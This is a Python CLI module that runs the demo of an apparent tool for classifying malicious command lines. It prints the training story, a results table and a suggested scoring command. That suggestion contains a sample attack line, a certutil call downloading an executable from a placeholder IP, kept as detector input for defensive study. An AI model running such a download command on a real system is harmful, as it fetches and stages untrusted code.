"""`cmdclf demo`: the whole job on the bundled month, with the recorded ledger: no key, no network, no GPU."""

from __future__ import annotations

import argparse
from pathlib import Path

from cmdclf.cli._messages import say


def add_arguments(parser: argparse.ArgumentParser) -> None:
    """Arguments of `cmdclf demo`."""
    parser.add_argument("--out", metavar="DIR", default="demo-out", help="folder to write (default: demo-out)")
    parser.add_argument("--quiet", action="store_true", help="no progress on stderr")


def run(args: argparse.Namespace) -> int:
    """Run the demo and explain its result."""
    from cmdclf.study.demo import run_demo
    from cmdclf.study.report import arms_table, headline

    out = Path(args.out)
    results = run_demo(out, progress=not args.quiet)
    days = results["data"]["train_days"][2]
    say(_STORY.format(**results["data"], **results["labels"], days=days))
    say(arms_table(results))
    say()
    say(headline(results))
    attack = "certutil -urlcache -f http://192.0.2.7/a.exe a.exe"
    say(f"\nLook at   {out / 'report.html'}\nNumbers   {out / 'results.json'}\nModel     {out / 'model'}")
    say(f"Try it    echo '{attack}' | cmdclf score --model {out / 'model'}")
    return 0


_STORY = """
A made-up estate recorded {train_events:,} process starts on {days} days: {train_distinct:,} distinct command lines.
Two classifiers were trained on what is at hand: RB on regex hits, AB on regex hits and labelled attacks against
frequent lines. Anomaly detectors then looked for rare, complex lines; near-duplicates were removed; recorded verdicts
of a language model said which are benign; those were added to training (the arms). The incident test holds attacks
and difficult benign lines of kinds that no arm has seen.

All arms together asked about {asked:,} lines: {benign:,} verdicts benign, {malicious:,} malicious, {unsure:,} unsure;
{pending:,} lines have no recorded verdict and stay pending.
"""
